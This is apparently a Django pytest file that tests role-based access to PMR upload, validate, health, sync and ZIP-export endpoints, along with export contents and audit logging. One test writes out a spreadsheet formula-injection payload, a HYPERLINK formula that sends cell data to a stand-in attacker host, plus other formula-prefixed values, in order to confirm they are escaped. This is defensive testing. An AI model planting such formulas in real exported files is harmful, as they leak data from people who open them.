"""Who may call the PMR endpoints of the API, and the manual-upload ZIP: one table each.

Orders are seen from the ``User`` role: ``own`` (theirs) and ``other`` (another User's,
invisible to them). Every case is its own test (a fresh order with a failed PMR write, so
"queue the upload" has something to queue)."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile

import pytest
from rest_framework.test import APIClient

from pmr import drain
from pmr.models import OutboxEntry

from .conftest import add_processed_images

pytestmark = pytest.mark.django_db
WHO = ["Admin", "Manager", "User", "Viewer", "norole", "anonymous"]
VIEW = {"Admin": 200, "Manager": 200, "User": 200, "Viewer": 200, "norole": 403, "anonymous": 401}

# (endpoint, target, who) -> status. Upload: the order's own rule (process); a User does not
# even see another User's order (404); Viewer sees it but may not act (403).
UPLOAD = {
    "own": {"Admin": 202, "Manager": 202, "User": 202, "Viewer": 403},
    "other": {"Admin": 202, "Manager": 202, "User": 404, "Viewer": 403},
}
CASES = []
for who in WHO:
    for target in ("own", "other"):
        expected = UPLOAD[target].get(who, VIEW[who])
        CASES.append(("upload", target, who, expected))
    CASES.append(("validate", "", who, VIEW[who]))
    # The PMR's address and every order's backlog: for the people who run deliveries.
    health = {"Admin": 200, "Manager": 200, "User": 403, "Viewer": 403}
    CASES.append(("health", "", who, health.get(who, VIEW[who])))
    sync = {"Admin": 202, "Manager": 202, "User": 403, "Viewer": 403}
    CASES.append(("sync", "", who, sync.get(who, VIEW[who])))


@pytest.fixture
def orders(sim, event, users, make_order, media_root):
    """Orders of ``User`` and of another User, each with a write the PMR refused."""
    sim.add_events([{"event_id": event.event_id, "name": "Test", "status": "open"}], [])
    made = {"own": make_order(users["User"]), "other": make_order(users["other"])}
    for order in made.values():
        add_processed_images(order, 1)
        OutboxEntry.objects.create(
            order=order,
            kind=OutboxEntry.Kind.ORDER_PUT,
            idempotency_key=f"{order.order_ref}:put:test",
            state=OutboxEntry.State.FAILED,
        )
    return made


def api_as(users, who: str) -> APIClient:
    api = APIClient()
    if who != "anonymous":
        api.force_login(users[who])
    return api


@pytest.mark.parametrize(("endpoint", "target", "who", "expected"), CASES)
def test_pmr_api_role_matrix(
    orders, users, monkeypatch, endpoint, target, who, expected, django_capture_on_commit_callbacks
):
    from pmr import tasks

    pulls = []
    monkeypatch.setattr(tasks.pull_updates, "delay", lambda: pulls.append(1))
    api = api_as(users, who)
    with django_capture_on_commit_callbacks(execute=False):
        if endpoint == "upload":
            order = orders[target]
            response = api.post("/api/v1/pmr/upload", {"order": order.order_ref}, format="json")
        elif endpoint == "validate":
            response = api.get("/api/v1/pmr/validate", {"event_id": "EVT-2026-WED-0142"})
        elif endpoint == "health":
            response = api.get("/api/v1/pmr/health")
        else:
            response = api.post("/api/v1/pmr/sync")
    assert response.status_code == expected, (endpoint, target, who, response.content[:300])
    body = response.json()
    if expected >= 400:
        assert set(body) == {"error"}, body
        assert body["error"]["code"], body
        if endpoint == "upload":  # refused: the failed write is still failed
            assert orders[target].pmr_outbox.get().state == OutboxEntry.State.FAILED
        assert not pulls
        return
    if endpoint == "upload":
        assert body == {"order": orders[target].order_ref, "queued": 1}
        assert orders[target].pmr_outbox.get().state == OutboxEntry.State.PENDING
    elif endpoint == "validate":
        assert body["found"]
        assert body["open"]
        assert body["reachable"]
    elif endpoint == "health":
        assert body["pmr"]["reachable"]
        assert body["pmr"]["circuit"]["state"] == "closed"
        assert body["outbox"]["failed"] == 2
    else:
        assert body == {"queued": True}
        assert pulls == [1]


def test_health_and_validate_say_503_when_the_pmr_is_down(sim, users):
    sim.set_faults(down=True)
    api = api_as(users, "Manager")
    health = api.get("/api/v1/pmr/health")
    assert health.status_code == 503
    assert not health.json()["pmr"]["reachable"]
    check = api.get("/api/v1/pmr/validate", {"event_id": "EVT-2026-WED-0142"})
    assert check.status_code == 503
    assert not check.json()["reachable"]


# --- the ZIP for a manual upload --------------------------------------------------------------

EXPORT = {"Admin": 200, "Manager": 200, "User": 404, "Viewer": 404, "norole": 404}


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize("target", ["own", "other"])
def test_export_zip_role_matrix(orders, client, users, who, target):
    order = orders[target]
    if who != "anonymous":
        client.force_login(users[who])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip")
    if who == "anonymous":
        assert response.status_code == 302
        assert "login" in response["Location"]
        return
    assert response.status_code == EXPORT[who], (who, target)
    if response.status_code == 200:
        assert response["Content-Type"] == "application/zip"
        assert order.order_ref in response["Content-Disposition"]


def test_export_zip_content_matches(sim, pmr_event, ai_done_order, client, users):
    order = ai_done_order(3)
    drain.drain_order(order.pk)  # two kinds of delivered image: synced ones...
    add_processed_images(order, 1)  # ... and one still waiting (processed)
    client.force_login(users["Manager"])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip")
    assert response.status_code == 200
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    names = set(archive.namelist())
    images = sorted(n for n in names if n.startswith("images/"))
    assert names == {*images, "metadata.csv", "metadata.json"}
    assert len(images) == 4
    table = list(csv.DictReader(io.StringIO(archive.read("metadata.csv").decode())))
    summary = json.loads(archive.read("metadata.json"))
    assert summary["order_ref"] == order.order_ref
    assert summary["event_id"] == pmr_event.event_id
    assert sorted(row["file"] for row in table) == images
    assert sorted(item["file"] for item in summary["images"]) == images
    by_file = {item["file"]: item for item in summary["images"]}
    for row in table:
        data = archive.read(row["file"])
        digest = hashlib.sha256(data).hexdigest()
        assert row["sha256"] == digest == by_file[row["file"]]["sha256"], row["file"]
        assert data[:3] == b"\xff\xd8\xff"  # a JPEG
        item = by_file[row["file"]]
        assert row["image_ref"] == item["image_ref"]
        assert row["original_filename"] == item["original_filename"]
        assert row["caption"] == item["caption"]
        assert row["caption"].startswith("Photo ")
        assert row["keywords"] == "; ".join(item["keywords"])
    # The bytes are the processed renditions the PMR got.
    processed = {hashlib.sha256(image.processed.read()).hexdigest() for image in order.images.all()}
    assert {row["sha256"] for row in table} == processed


def test_export_csv_cells_never_run_as_spreadsheet_formulas(
    sim, pmr_event, ai_done_order, client, users
):
    order = ai_done_order(1)
    image = order.images.get()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    image.original_filename = "@SUM(1+1).jpg"
    image.ai_metadata = {
        **image.ai_metadata,
        "caption": {"caption": formula, "alt_text": "-2+3", "keywords": ["+cmd", "plain"]},
    }
    image.save(update_fields=["original_filename", "ai_metadata"])
    client.force_login(users["Manager"])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip")
    archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    (row,) = csv.DictReader(io.StringIO(archive.read("metadata.csv").decode()))
    assert row["caption"] == "'" + formula
    assert row["original_filename"] == "'@SUM(1+1).jpg"
    assert row["alt_text"] == "'-2+3"
    assert row["keywords"] == "'+cmd; plain"
    # metadata.json is data, not a spreadsheet: it keeps the text as it is.
    assert json.loads(archive.read("metadata.json"))["images"][0]["caption"] == formula


def test_a_zip_export_is_audited(sim, pmr_event, ai_done_order, client, users):
    from auditlog.models import LogEntry

    order = ai_done_order(1)
    client.force_login(users["Manager"])
    response = client.get(f"/pmr/orders/{order.order_ref}/export.zip", REMOTE_ADDR="192.0.2.9")
    assert response.status_code == 200
    (entry,) = LogEntry.objects.get_for_object(order).filter(action=LogEntry.Action.ACCESS)
    assert entry.additional_data == {"event": "exported_zip"}
    assert (entry.actor, entry.remote_addr) == (users["Manager"], "192.0.2.9")
